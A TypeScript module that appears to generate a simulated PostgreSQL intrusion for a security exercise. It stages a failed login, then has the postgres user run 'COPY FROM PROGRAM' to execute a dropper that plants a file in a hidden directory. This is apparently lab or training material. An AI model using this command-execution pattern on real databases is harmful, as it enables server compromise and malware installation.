// Real PostgreSQL that notes connections and statements that change things.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { postgresql, sql } from '../../postgresql.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  postgresql(dress)
  dress.logins({
    days: 12,
    guesses: 40,
    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9, 15] }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/var/lib/postgresql/.pgx/pg_core' })
  await sql(stage, '203.0.113.59', 'wrong', 'SELECT 1').catch(() => undefined)
  stage.mark('occurrence')
  await sql(
    stage,
    '203.0.113.59',
    'postgres',
    `DROP TABLE IF EXISTS bwyeapel; CREATE TABLE bwyeapel(t text); COPY bwyeapel FROM PROGRAM '${line}'; DROP TABLE bwyeapel;`,
  )
}
